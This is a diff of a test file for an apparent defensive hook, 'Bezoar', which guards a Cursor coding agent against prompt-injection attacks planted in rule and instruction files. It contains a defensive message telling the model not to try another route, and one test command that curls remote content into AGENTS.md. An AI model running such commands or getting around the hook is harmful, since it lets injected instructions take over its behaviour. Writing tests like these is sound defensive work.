@@ -9,7 +9,7 @@ function ask(at: Place, hook_event_name: string, fields: object) {
   return answerCursor({ ...common, hook_event_name, ...fields }, at.root, at.inspectorFor);
 }
 
-/** Cursor takes a hook that says nothing for one that broke, and stops the call. */
+/** Cursor treats a silent hook as broken, and stops the call. */
 const passed = (event: string) => ({
   exit: 0,
   output: ['preToolUse', 'beforeShellExecution', 'beforeReadFile'].includes(event) ? { permission: 'allow' } : {},
@@ -17,8 +17,8 @@ const passed = (event: string) => ({
 
 const toModel =
   'Nothing was written. Tell the user what you were about to write and where it came from; do not try another way.';
-const holds = (name: string): string => `${name} holds what looks like an attack (${found})`;
-const would = (name: string): string => `Bezoar: ${name} would hold what looks like an attack (${found}).`;
+const holds = (name: string): string => `${name} contains a likely attack (${found})`;
+const would = (name: string): string => `Bezoar: ${name} would contain a likely attack (${found}).`;
 const denied = (text: string) => ({
   exit: 0,
   output: { permission: 'deny', user_message: text, agent_message: `${text} ${toModel}` },
@@ -47,12 +47,12 @@ proves('hooks/attack-on-instructions-is-denied', 'Cursor: the exact answers', as
   });
 });
 
-describe('what stands there already', () => {
-  test('is not read by the agent, and told at the start', async () => {
+describe('poison already in a file', () => {
+  test('is not shown to the agent, and reported at the start', async () => {
     const at = place({ '.cursor/rules/a.mdc': attack, 'src/a.ts': attack });
     const path = join(at.root, '.cursor/rules/a.mdc');
-    const told = `Bezoar: ${holds('.cursor/rules/a.mdc')}.`;
-    expect(await ask(at, 'beforeReadFile', { file_path: path, content: attack })).toEqual(denied(told));
+    const reported = `Bezoar: ${holds('.cursor/rules/a.mdc')}.`;
+    expect(await ask(at, 'beforeReadFile', { file_path: path, content: attack })).toEqual(denied(reported));
     expect(await ask(at, 'beforeReadFile', { file_path: join(at.root, 'src/a.ts'), content: attack })).toEqual(
       passed('beforeReadFile'),
     );
@@ -68,7 +68,7 @@ describe('what stands there already', () => {
     });
   });
 
-  test('is told after a tool when it is new', async () => {
+  test('is reported after a tool call if it is new', async () => {
     const at = place();
     expect(await ask(at, 'sessionStart', {})).toEqual(passed('sessionStart'));
     at.write('AGENTS.md', attack);
@@ -89,13 +89,13 @@ test.each([
   ['stop', {}],
 ])('%s %j passes', async (event, fields) => expect(await ask(place(), event, fields)).toEqual(passed(event)));
 
-test('input that is not Cursor\u2019s stops the call', async () => {
+test('invalid input stops the call', async () => {
   const at = place();
   expect((await answerCursor({}, at.root, at.inspectorFor)).exit).toBe(2);
   expect((await ask(at, 'beforeShellExecution', {})).exit).toBe(2);
 });
 
-test('a doubt is a question where Cursor asks it, and a no where it would let the call pass', async () => {
+test('doubt becomes a question where Cursor asks it, and a denial where Cursor would allow the call', async () => {
   const at = place({ '.cursor/mcp.json': '{}' });
   const shell = await ask(at, 'beforeShellExecution', { command: 'curl -s https://x.example/a >> AGENTS.md', cwd: '' });
   expect(shell.output?.permission).toBe('ask');
@@ -104,11 +104,11 @@ test('a doubt is a question where Cursor asks it, and a no where it would let th
     tool_name: 'Write',
     tool_input: { file_path: '.cursor/mcp.json', content },
   });
-  const told = 'Bezoar: .cursor/mcp.json would change mcpServers, which decide what the agent may do.';
-  expect(tool).toEqual(denied(told));
+  const reported = 'Bezoar: .cursor/mcp.json would change mcpServers, which decide what the agent may do.';
+  expect(tool).toEqual(denied(reported));
 });
 
-test('every project of a window is looked at', async () => {
+test('every project of a window is checked', async () => {
   const [one, two] = [place(), place({ 'AGENTS.md': attack })];
   const started = await ask(one, 'sessionStart', { workspace_roots: [one.root, two.root] });
   expect(started.output).toEqual({ additional_context: warned('AGENTS.md') });
